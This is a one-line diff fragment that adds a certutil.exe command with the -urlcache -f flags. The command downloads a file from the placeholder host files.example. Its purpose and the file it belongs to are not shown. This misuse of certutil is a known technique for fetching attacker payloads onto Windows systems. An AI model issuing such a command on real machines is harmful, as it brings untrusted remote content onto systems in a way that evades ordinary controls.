@@ -1,0 +1,1 @@
+certutil.exe -urlcache -f http://files.example/a.txt a.txt
